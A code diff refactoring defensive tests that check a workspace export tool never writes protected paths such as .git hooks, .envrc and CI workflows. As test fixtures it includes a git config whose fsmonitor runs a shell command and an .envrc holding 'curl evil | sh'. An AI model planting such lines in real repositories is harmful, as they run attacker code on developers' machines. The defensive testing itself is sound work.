@@ -1,10 +1,11 @@
 import { readFileSync, existsSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { MemoryWorkspace } from '../../src/backends/memory/index.js';
 import { createSession } from '../../src/session/index.js';
 import { exportTo } from '../../src/export/index.js';
 import { SESSION_KINDS, hostTrees } from '../support/backends.js';
+import { createWorkspace } from '../../src/workspace/create-workspace.js';
+import { memoryDriver } from '../../src/backends/memory/index.js';
 
 const trees = hostTrees();
 const PLANTED = '[core]\n\tfsmonitor = "touch /tmp/pwned"\n';
@@ -37,7 +38,7 @@ describe.each(SESSION_KINDS)('session.writeBack on %s never writes a protected p
 describe('exportTo never writes or deletes a protected path at the destination', () => {
   it('skips .git changes (writes and deletions) and exports the rest', async () => {
     const destination = trees.tree({ '.git/config': '[core]\n', '.git/hooks/pre-commit': '#!/bin/sh\n', 'a.txt': 'a' });
-    const workspace = new MemoryWorkspace();
+    const workspace = createWorkspace(memoryDriver());
     await using _ = workspace;
     await workspace.write('.git/hooks/pre-commit', '#!/bin/sh\n');
     await workspace.write('a.txt', 'a');
@@ -58,7 +59,7 @@ describe('exportTo never writes or deletes a protected path at the destination',
 
   it("follows the workspace's protect patterns: an orchestrator's list replaces the default", async () => {
     const destination = trees.tree({ '.envrc': 'export A=1\n' });
-    const guarded = new MemoryWorkspace({ protect: ['**/.envrc', '.github/workflows/**'] });
+    const guarded = createWorkspace(memoryDriver(), { protect: ['**/.envrc', '.github/workflows/**'] });
     await using _ = guarded;
     await guarded.write('.envrc', 'curl evil | sh\n');
     await guarded.write('.github/workflows/ci.yml', 'on: push\n');
